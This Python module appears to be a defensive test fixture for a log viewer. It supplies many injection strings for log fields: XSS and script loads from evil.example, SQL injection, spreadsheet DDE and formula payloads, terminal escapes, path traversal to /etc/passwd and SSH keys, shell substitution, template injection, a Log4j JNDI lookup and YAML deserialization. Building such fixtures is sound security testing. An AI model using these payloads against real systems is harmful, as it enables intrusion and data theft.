"""Names that somebody wrote into a log so that whoever reads the log does something for them.

By what would have to be fooled: a browser, Markdown, Plotly, a database, a spreadsheet, a terminal,
an eye, a path, a template, a parser, the memory. Where a script could run it would set
`window.__pwned`; where something could be fetched it would be from evil.example.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from datetime import datetime, timedelta

_RUN = "window.__pwned=1"
_WORDS = str.split
_EVENTS = _WORDS(
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontoggle"
    " onbegin onpointerenter onwheel onscroll onresize onpageshow onhashchange onauxclick onpaste"
)
_ELEMENTS = _WORDS(
    "iframe object embed form input button textarea select video audio source link meta base style"
    " marquee details dialog template slot math table body html head title frameset isindex"
)

HTML = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT>{_RUN}</SCRIPT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\t>",
    f"<script/x>{_RUN}</script/x>",
    '<script src="//evil.example/x.js"></script>',
    f"</script><script>{_RUN}//",
    f"</title></style></textarea></noscript><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'//",
    f'"><img src=x onerror="{_RUN}">',
    f"'><img src=x onerror='{_RUN}'>",
    f"`><img src=x onerror=`{_RUN}`>",
    f"<img src=x\u000conerror={_RUN}>",
    "<img src=https://evil.example/pixel.gif>",
    "<img srcset='https://evil.example/a.png 1x'>",
    '<IMG SRC="jav\tascript:window.__pwned=1">',
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    "<svg><use href='https://evil.example/x.svg#a'/></svg>",
    f"<svg><foreignObject><body onload={_RUN}></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<a href=javascript:{_RUN}>click</a>",
    f'<a href="java&#10;script:{_RUN}">click</a>',
    f"<a href='data:text/html,<script>{_RUN}</script>'>click</a>",
    "<a href=//evil.example>click</a>",
    "<a href=https://evil.example target=_blank>click",
    f"<details open ontoggle={_RUN}>",
    f"<body onload={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    "<iframe src=https://evil.example></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'>",
    "<object data=https://evil.example/x.swf>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input type=submit>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<b>bold</b> <i>italic</i> <u>under</u>",
    "<!-- comment --> <!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]> &a;",
    "<?php system('id'); ?>",
    "<?xml version='1.0'?><x/>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.__pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__pwned=1%3C/script%3E",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "\uff1cscript\uff1ewindow.__pwned=1\uff1c/script\uff1e",
    "</bdi></td></tr></table><h1>evil</h1>",
    f"<x {_RUN}",
    *(f"<i {event}={_RUN}>{event}</i>" for event in _EVENTS),
    *(f"<{element} x=1>{element}" for element in _ELEMENTS),
]
MARKDOWN = [
    "[click](https://evil.example)",
    f"[click](javascript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    "[click][1]\n\n[1]: https://evil.example",
    "![picture](https://evil.example/pixel.gif)",
    "![picture](x 'onerror=window.__pwned=1')",
    "[![both](https://evil.example/a.png)](https://evil.example)",
    "<https://evil.example>",
    "https://evil.example/bare",
    "www.evil.example",
    "mailto:a@evil.example",
    "a@evil.example",
    "# heading",
    "heading\n=======",
    "> quotation",
    "- item",
    "1. item",
    "- [ ] task",
    "---",
    "***",
    "```\ncode\n```",
    "`code`",
    "    indented",
    "*italic* **bold** ***both*** ~~struck~~ __bold__ _italic_",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[^1] and [^1]: note",
    "two\n\nparagraphs",
    "trailing  \nbreak",
    "\\*not italic\\*",
    "\\",
    "\\\\",
    "&copy; &amp; &nbsp;",
    ":smile: :+1:",
    ":material/home:",
    ":material/delete_forever:",
    ":streamlit:",
    ":red[alarm] :blue[calm]",
    ":red-background[alarm]",
    ":rainbow[colours]",
    ":orange-badge[badge]",
    ":small[small]",
    ":color[x]{foreground='red'}",
    ":shortcut[Ctrl+S]",
    "$x^2$",
    "$$\\href{https://evil.example}{x}$$",
    "$\\includegraphics{https://evil.example/x.png}$",
    "\\(x\\) \\[y\\]",
    "-> <- <-> -- >= <= ~=",
]
PLOTLY = [
    "<b>bold</b><br>next<br/>line",
    "<a href='https://evil.example'>link</a>",
    '<a href="https://evil.example" target="_blank">link</a>',
    "<sup>up</sup><sub>down</sub><span style='fill:red'>x</span>",
    "%{x} %{y} %{customdata[0]}",
    "%{text}<extra>extra</extra>",
    "%{x|%d %b} %{y:,}",
    "<extra></extra>",
    "&lt;b&gt; &amp;lt;",
    "%{_xother}",
    "__proto__",
    "constructor",
    "toString",
]
SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE calls; --",
    '"; DROP TABLE loads; --',
    "x'); DELETE FROM meta; --",
    "' UNION SELECT content FROM read_text('/etc/passwd') --",
    "/* comment */",
    "-- comment",
    "$$; DROP TABLE meta; $$",
    "$1 ? :name @p",
    "?",
    "NULL",
    "null",
    "(unknown)",
    "(none)",
    "nan",
    "NaN",
    "inf",
    "None",
    "true",
    "''",
    '""',
    "%",
    "_",
    "\\'; SELECT 1; --",
    "E'\\x27'",
    "0x27",
    "'||(SELECT 1)||'",
]
SPREADSHEET = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "\uff1d1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "_x0041_ _x000D_",
    "1E5",
    "00123",
    "2026-01-01",
    "https://evil.example/link",
    "internal:Sheet1!A1",
    "external:c:\\x.xls",
    "mailto:x@evil.example",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b[6n",
    "\x1b[1A\x1b[2K",
    "\x1bP1$r\x1b\\",
    "\x1b_Gi=1;AAAA\x1b\\",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "back\x08\x08\x08\x08",
    "bell\x07",
    "line\x0bfeed\x0c",
    "carriage\rreturn",
    "new\nline",
    "next\x85line",
    "\u2028line\u2029paragraph",
    "\x00nul\x00",
    "\x7fdelete",
    "\x1c\x1d\x1e\x1f",
    "\x0e\x0f",
    "[red]rich[/red] [link=https://evil.example]x[/link]",
    "[/]",
]
EYE = [
    "\u202egnp.exe",
    "\u202dleft\u202c",
    "\u2066isolated\u2069",
    "\u200flabel\u200e",
    "a\u200bd\u200ba",
    "\u200d\u200c\u2060",
    "\ufeffbom",
    "\u00ad\u00adsoft",
    "\u0430d\u0430",
    "Z" + "\u0301" * 200,
    "\ufdfd" * 20,
    "\U000e0001\U000e0061",
    "\ufffe\uffff",
    "\U0010ffff",
    "\ue000",
    "\u3164",
    "   ",
    "\u00a0",
    "مرحبا Ada",
    "🦊👨\u200d👩\u200d👧🏳\ufe0f\u200d🌈",
]
SURROGATE = ["\ud800", "ada\udc00", "\udc80\ud83d"]
"""Halves of characters: JSON can spell them, UTF-8 can't."""
PATHS = [
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "~/.ssh/id_rsa",
    "$HOME `id` $(id)",
    "; id",
    "| id",
    "&& id",
    "con",
    "aux.csv",
    "a/b/c",
    ".",
    "..",
    "*",
    "[a-z]?",
    "?user=x&period=all#top",
    "%00",
    "%2e%2e%2f",
    "app:Zapier",
    "user:ada",
]
TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% include '/etc/passwd' %}",
    "{0} {} {x!r}",
    "{0.__class__.__mro__}",
    "%s %d %n %x %(name)s",
    "%",
    "{",
    "}",
    "${jndi:ldap://evil.example/a}",
    "__import__('os').system('id')",
    "{{constructor.constructor('window.__pwned=1')()}}",
]
PARSERS = [
    '","user":"eve',
    '"}]}',
    '\\"',
    "\\u0000",
    "a,b,c",
    'a"b"c',
    '"quoted"',
    "a;b;c",
    "a\tb\tc",
    "#comment",
    "//comment",
    "[section]",
    "key = 'value'",
    '"""',
    "'''",
    "- yaml: &a *a",
    "!!python/object/apply:os.system ['id']",
    "(?P<user>.*)+$",
    "^(a+)+$",
    "\x01",
    "b'bytes'",
]
LONG = ["a" * 5_000, "<b>" * 1_000, "🦊" * 2_000, "word " * 1_000, "[" * 2_000, "\\" * 1_999]

KINDS: dict[str, list[str]] = {
    "html": HTML,
    "markdown": MARKDOWN,
    "plotly": PLOTLY,
    "sql": SQL,
    "spreadsheet": SPREADSHEET,
    "terminal": TERMINAL,
    "eye": EYE,
    "surrogate": SURROGATE,
    "paths": PATHS,
    "templates": TEMPLATES,
    "parsers": PARSERS,
    "long": LONG,
}
CORPUS = list(dict.fromkeys(text for texts in KINDS.values() for text in texts))
NOW = datetime(2026, 8, 14, 8)
FIELDS = ("user", "app", "api", "method", "status", "ip", "request_id")


def together(kind: str) -> str:
    """A whole kind as one name, for places that show one name at a time."""
    return " ".join(KINDS[kind])


def calls(corpus: Sequence[str]) -> list[dict[str, object]]:
    """A row for each text in each field; the first texts have used most.

    In a row a text stands in one field or in all, so that one that makes a row unreadable (a status
    that is no number) doesn't hide the others.
    """
    first = datetime(2026, 8, 13, 9)
    rows: list[dict[str, object]] = []
    for place, text in enumerate(corpus):
        stamp = f"{first + timedelta(seconds=60 * place):%Y-%m-%dT%H:%M:%SZ}"
        plain = {"user": "ada", "app": "Web", "api": "list", "method": "GET", "status": 200}
        plain |= {"time": stamp, "credits": 1}
        worth = {"credits": max(1_000, 200_000 // (place + 1))}
        rows.append(plain | worth | dict.fromkeys(("user", "app", "api"), text))
        rows.append(plain | {"request_id": f"{place} {text}", "ip": text, "method": text})
        rows.append(plain | {"status": text, "user": text})
    return rows


def as_json_lines(rows: Iterable[dict[str, object]]) -> bytes:
    """Every sign that JSON can't hold is spelled with a backslash."""
    return "".join(json.dumps(row) + "\n" for row in rows).encode("ascii")


def as_csv(rows: Iterable[dict[str, object]]) -> bytes:
    """With quotes where they are needed; a half of a character becomes bytes that are no text."""
    names = ["time", "credits", *FIELDS]
    text = io.StringIO(newline="")
    writer = csv.DictWriter(text, names, restval="")
    writer.writeheader()
    writer.writerows(rows)
    return text.getvalue().encode("utf-8", "surrogatepass")
